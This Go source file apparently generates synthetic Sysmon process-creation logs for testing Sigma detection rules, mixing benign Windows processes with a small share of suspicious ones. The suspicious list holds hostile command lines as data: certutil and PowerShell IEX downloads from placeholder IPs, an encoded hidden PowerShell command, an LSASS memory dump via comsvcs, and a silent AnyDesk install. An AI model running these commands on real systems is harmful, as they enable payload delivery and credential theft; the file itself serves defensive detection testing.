package sigma

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
)

// procSpec is one kind of process start the generator emits.
type procSpec struct {
	image, original, product, company, description string
	args                                           []string
	parents                                        []string
	weight                                         int
}

// benignProcs dominate the stream; suspicious ones are a few percent, as on real hosts.
var benignProcs = []procSpec{
	{`C:\Windows\System32\svchost.exe`, "svchost.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Host Process for Windows Services",
		[]string{"-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p -s EventLog", "-k DcomLaunch -p", "-k UnistackSvcGroup"}, []string{`C:\Windows\System32\services.exe`}, 30},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe", "Google Chrome", "Google LLC", "Google Chrome",
		[]string{`--type=renderer --lang=en-US --renderer-client-id=%d --mojo-platform-channel-handle=%d /prefetch:1`,
			`--type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAw --mojo-platform-channel-handle=%d /prefetch:2`,
			`--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --mojo-platform-channel-handle=%d /prefetch:8`},
		[]string{`C:\Program Files\Google\Chrome\Application\chrome.exe`}, 25},
	{`C:\Windows\System32\conhost.exe`, "CONHOST.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Console Window Host",
		[]string{"0xffffffff -ForceV1"}, []string{`C:\Windows\System32\cmd.exe`, `C:\Program Files\Git\bin\bash.exe`}, 10},
	{`C:\Program Files\Microsoft VS Code\Code.exe`, "electron.exe", "Visual Studio Code", "Microsoft Corporation", "Visual Studio Code",
		[]string{`--type=utility --utility-sub-type=node.mojom.NodeService --user-data-dir="C:\Users\%s\AppData\Roaming\Code" --mojo-platform-channel-handle=%d /prefetch:8`},
		[]string{`C:\Program Files\Microsoft VS Code\Code.exe`}, 8},
	{`C:\Windows\System32\taskhostw.exe`, "taskhostw.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Host Process for Windows Tasks",
		[]string{"", "Install $(Arg0)", "NGCKeyPregen"}, []string{`C:\Windows\System32\svchost.exe`}, 6},
	{`C:\Program Files\Git\cmd\git.exe`, "git.exe", "Git", "The Git Development Community", "Git for Windows",
		[]string{"fetch --all --prune", "status --porcelain=v2 --branch", "log -n 20 --format=%%H", "rev-parse --abbrev-ref HEAD"}, []string{`C:\Program Files\Microsoft VS Code\Code.exe`, `C:\Windows\System32\cmd.exe`}, 8},
	{`C:\Windows\System32\cmd.exe`, "Cmd.Exe", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Windows Command Processor",
		[]string{`/c "C:\Program Files\nodejs\npm.cmd" run build`, `/d /s /c "git config --get remote.origin.url"`, `/c echo %%PATH%%`}, []string{`C:\Windows\explorer.exe`, `C:\Program Files\Microsoft VS Code\Code.exe`}, 5},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Windows PowerShell",
		[]string{`-NoProfile -ExecutionPolicy Bypass -File "C:\Program Files\Company\agent\healthcheck.ps1"`, `-NoLogo -Command "Get-Service | Where-Object Status -eq Running"`}, []string{`C:\Windows\System32\svchost.exe`, `C:\Windows\explorer.exe`}, 3},
}

// suspiciousProcs are the few percent of the stream that rules should flag.
var suspiciousProcs = []procSpec{
	{`C:\Windows\System32\certutil.exe`, "CertUtil.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation", "CertUtil.exe",
		[]string{`-urlcache -split -f http://198.51.100.%d/payload.bin C:\Users\Public\p.exe`}, []string{`C:\Windows\System32\cmd.exe`}, 1},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "PowerShell.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Windows PowerShell",
		[]string{`-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `-ExecutionPolicy Bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.%d/a')"`},
		[]string{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`}, 1},
	{`C:\Windows\System32\rundll32.exe`, "RUNDLL32.EXE", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Windows host process (Rundll32)",
		[]string{`C:\Windows\System32\comsvcs.dll, MiniDump %d C:\Users\Public\lsass.dmp full`}, []string{`C:\Windows\System32\cmd.exe`}, 1},
	{`C:\Users\%s\AppData\Local\Temp\AnyDesk.exe`, "AnyDesk.exe", "AnyDesk", "AnyDesk Software GmbH", "AnyDesk",
		[]string{`--install "C:\Program Files (x86)\AnyDesk" --start-with-win --silent`}, []string{`C:\Windows\explorer.exe`}, 1},
}

// eventGen produces a deterministic stream of Sysmon EventID 1 events as evtx JSON.
type eventGen struct {
	r     *rand.Rand
	users []string
}

func newEventGen(seed uint64) *eventGen {
	return &eventGen{r: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), users: []string{"jdoe", "asmith", "m.garcia", "lchen", "svc_build", "administrator"}}
}

func (g *eventGen) hex(n int) string {
	const digits = "0123456789ABCDEF"
	var b strings.Builder
	for range n {
		b.WriteByte(digits[g.r.IntN(16)])
	}
	return b.String()
}

func (g *eventGen) guid() string {
	return fmt.Sprintf("{%s-%s-%s-%s-%s}", g.hex(8), g.hex(4), g.hex(4), g.hex(4), g.hex(12))
}

func (g *eventGen) pick(ps []procSpec) procSpec {
	total := 0
	for _, p := range ps {
		total += p.weight
	}
	n := g.r.IntN(total)
	for _, p := range ps {
		if n -= p.weight; n < 0 {
			return p
		}
	}
	return ps[0]
}

// fill replaces %d and %s in a template with random numbers and the user.
func (g *eventGen) fill(tmpl, user string) string {
	var b strings.Builder
	for i := 0; i < len(tmpl); i++ {
		if tmpl[i] == '%' && i+1 < len(tmpl) {
			switch tmpl[i+1] {
			case 'd':
				fmt.Fprintf(&b, "%d", 1+g.r.IntN(9000))
				i++
				continue
			case 's':
				b.WriteString(user)
				i++
				continue
			case '%':
				b.WriteByte('%')
				i++
				continue
			}
		}
		b.WriteByte(tmpl[i])
	}
	return b.String()
}

// next returns one event; about 2% are suspicious.
func (g *eventGen) next(i int) []byte {
	p := g.pick(benignProcs)
	if g.r.IntN(50) == 0 {
		p = g.pick(suspiciousProcs)
	}
	user := g.users[g.r.IntN(len(g.users))]
	image := g.fill(p.image, user)
	parent := p.parents[g.r.IntN(len(p.parents))]
	args := g.fill(p.args[g.r.IntN(len(p.args))], user)
	cmd := `"` + image + `" ` + args
	ts := fmt.Sprintf("2026-11-%02d %02d:%02d:%02d.%03d", 1+i/86400%28, i/3600%24, i/60%60, i%60, g.r.IntN(1000))
	ev := map[string]any{"Event": map[string]any{
		"System": map[string]any{
			"Provider":      map[string]any{"#attributes": map[string]any{"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
			"EventID":       1,
			"Version":       5,
			"Level":         4,
			"Task":          1,
			"Keywords":      "0x8000000000000000",
			"TimeCreated":   map[string]any{"#attributes": map[string]any{"SystemTime": strings.Replace(ts, " ", "T", 1) + "Z"}},
			"EventRecordID": 100000 + i,
			"Execution":     map[string]any{"#attributes": map[string]any{"ProcessID": 3308, "ThreadID": 4008}},
			"Channel":       "Microsoft-Windows-Sysmon/Operational",
			"Computer":      fmt.Sprintf("WS-%04d.corp.example.com", g.r.IntN(500)),
		},
		"EventData": map[string]any{
			"RuleName":          "-",
			"UtcTime":           ts,
			"ProcessGuid":       g.guid(),
			"ProcessId":         1000 + g.r.IntN(30000),
			"Image":             image,
			"FileVersion":       "10.0.22621.3527 (WinBuild.160101.0800)",
			"Description":       p.description,
			"Product":           p.product,
			"Company":           p.company,
			"OriginalFileName":  p.original,
			"CommandLine":       cmd,
			"CurrentDirectory":  `C:\Users\` + user + `\`,
			"User":              `CORP\` + user,
			"LogonGuid":         g.guid(),
			"LogonId":           fmt.Sprintf("0x%x", g.r.IntN(1<<24)),
			"TerminalSessionId": 1,
			"IntegrityLevel":    []string{"Medium", "High", "System"}[g.r.IntN(3)],
			"Hashes":            "SHA1=" + g.hex(40) + ",MD5=" + g.hex(32) + ",SHA256=" + g.hex(64) + ",IMPHASH=" + g.hex(32),
			"ParentProcessGuid": g.guid(),
			"ParentProcessId":   1000 + g.r.IntN(30000),
			"ParentImage":       parent,
			"ParentCommandLine": `"` + parent + `"`,
		},
	}}
	b, err := json.Marshal(ev)
	if err != nil {
		panic(err)
	}
	return b
}

// events returns n generated events.
func (g *eventGen) events(n int) [][]byte {
	out := make([][]byte, n)
	for i := range out {
		out[i] = g.next(i)
	}
	return out
}
